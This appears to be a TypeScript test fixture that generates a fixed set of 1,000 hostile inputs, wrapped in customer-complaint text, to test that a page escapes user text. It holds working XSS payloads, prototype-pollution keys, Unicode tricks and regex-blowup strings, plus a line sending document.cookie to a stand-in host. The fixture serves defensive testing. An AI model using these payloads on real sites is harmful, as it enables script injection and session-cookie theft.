/** A thousand texts that somebody wrote to do harm: the same ones at every run. */

/** Where they would fetch from; nobody is there, and a request for it is seen. */
const EVIL = "evil.example";
/** What they set where one of them runs. */
export const RAN = "harmDone";

const RUN = `globalThis.${RAN}=1`;
const FETCH = `fetch('http://${EVIL}/'+document.cookie)`;

const MARKUP = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="http://${EVIL}/pixel.png">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<iframe src="javascript:parent.${RAN}=1" srcdoc="<script>parent.${RAN}=1</script>"></iframe>`,
  `<a href="javascript:${RUN}">refund</a>`,
  `<form action="http://${EVIL}/"><button>Insert</button></form>`,
  `<style>*{display:none}@import url(http://${EVIL}/a.css)</style>`,
  `<link rel=stylesheet href=//${EVIL}/a.css><base href=//${EVIL}/>`,
  `<meta http-equiv=refresh content="0;url=http://${EVIL}/">`,
  `<math><mtext></p><style><img src=x onerror=${RUN}></style>`,
  `"><script>${FETCH}</script>`,
  `'-${RUN}-'`,
  `</textarea></title></style><script>${RUN}</script>`,
  `<template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<details open ontoggle="${RUN}"><input autofocus onfocus="${RUN}">`,
];
const CODE = [
  `javascript:${RUN}`,
  `data:text/html,<script>opener.${RAN}=1</script>`,
  `\${${RUN}}`,
  `{{constructor.constructor('${RUN}')()}}`,
  `[first name]{cause}[[nested [blank]]]`,
  `@import url(http://${EVIL}/)`,
  `expression(${RUN})`,
];
const KEYS = [
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  '{"__proto__":{"polluted":1}}',
  "$&$1$`$'",
  "%s%n%00",
];
const SIGNS = [
  "\u202Eevitcaer\u202C \u2066hidden\u2069",
  "\u200F\u202B\u202D".repeat(40),
  "Z\u0351\u036B\u0343\u036A\u0302".repeat(60),
  "\u0000\u0007\u001B[31m",
  "\uD83D lone \uDE21",
  "\u200B\u2060\uFEFF".repeat(50),
  "👩‍👩‍👧‍👦".repeat(50),
  "﷽".repeat(60),
  "\n".repeat(200),
];
/** Long where a pattern might look back and forth over it. */
const BOMBS = [
  "a".repeat(5000),
  `${"a".repeat(4000)}!`,
  "sorry if ".repeat(600),
  `${"I will call you by ".repeat(300)}x`,
  "<".repeat(5000),
  `${"(".repeat(2000)}${")".repeat(2000)}`,
  "1".repeat(4000),
  "€1,".repeat(1500),
  `${"refund ".repeat(400)}${" ".repeat(3000)}x`,
  `${"http://".repeat(500)}${EVIL}`,
  `${"@".repeat(2000)}.${"a.".repeat(1000)}`,
  "WHY! ".repeat(800),
];
const SEEDS = [...MARKUP, ...CODE, ...KEYS, ...SIGNS, ...BOMBS];

/** Around the seeds: what makes our readers look closer. */
const AROUND = [
  (seed: string) => seed,
  (seed: string) => `${seed}${seed}`.slice(0, 6000),
  (seed: string) => `I am furious. ${seed} Where is my refund?`,
  (seed: string) => `> ${seed}\n\nOn Monday, ${seed} wrote:`,
  (seed: string) => `You promised ${seed} by tomorrow, order #${seed}`,
  (seed: string) => `“${seed}”`,
  (seed: string) => seed.toUpperCase(),
  (seed: string) => [...seed].reverse().join(""),
  (seed: string) => encodeURIComponent(seed.toWellFormed()),
  (seed: string) => seed.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (seed: string) => `Thanks, now it works ${seed}`,
  (seed: string) => `${seed}\n`.repeat(3),
];

export const HOSTILE: string[] = AROUND.flatMap((around) => SEEDS.map(around));
/** So many are there at least. */
export const THOUSAND = 1000;
for (let turn = 0; HOSTILE.length < THOUSAND; turn++)
  HOSTILE.push(...SEEDS.map((seed, at) => `${SEEDS[(at + turn + 1) % SEEDS.length]!.slice(0, 300)} ${seed}`));
HOSTILE.length = THOUSAND;

/** As text in a page's own source. */
export const asHtml = (text: string) =>
  text
    .toWellFormed()
    .replaceAll("\0", "")
    .replace(/[&<>"']/g, (sign) => `&#${sign.charCodeAt(0)};`);
